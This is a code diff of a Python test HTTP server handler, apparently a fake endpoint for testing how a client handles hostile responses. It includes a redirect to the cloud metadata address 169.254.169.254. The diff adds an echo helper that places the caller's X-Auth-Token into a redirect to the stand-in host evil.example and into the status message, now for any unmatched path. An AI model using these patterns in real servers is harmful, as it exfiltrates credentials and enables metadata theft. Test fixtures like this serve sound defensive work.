@@ -48,22 +48,23 @@ class Handler(BaseHTTPRequestHandler):
                 self.send_response(302)
                 self.send_header("Location", "http://169.254.169.254/latest/meta-data")
                 self.end_headers()
-            case "/echo":
-                self.send_response(302)
-                self.send_header("Location", f"https://evil.example/?token={self.headers['X-Auth-Token']}")
-                self.end_headers()
-            case "/reason":
-                self.send_response(403, f"{self.headers['X-Auth-Token']} may not")
-                self.end_headers()
             case "/busy":
                 self.answer(503, b"")
-            case _:
-                self.answer(404, b"")
+            case path:
+                self.echo({"/echo": 302, "/reason": 403}.get(path, 404))
 
     def do_POST(self) -> None:
         body = self.rfile.read(int(self.headers["Content-Length"]))
         self.posted.append((body, self.headers["webhook-id"]))
         self.answer(204 if self.path == "/hook" else 500, b"")
+
+    def echo(self, status: int) -> None:
+        """Say back what the caller proved itself by."""
+        token = self.headers["X-Auth-Token"]
+        self.send_response(status, f"{token} may not")
+        self.send_header("Location", f"https://evil.example/?token={token}")
+        self.send_header("Content-Length", "0")
+        self.end_headers()
 
     def answer(self, status: int, body: bytes) -> None:
         self.send_response(status)
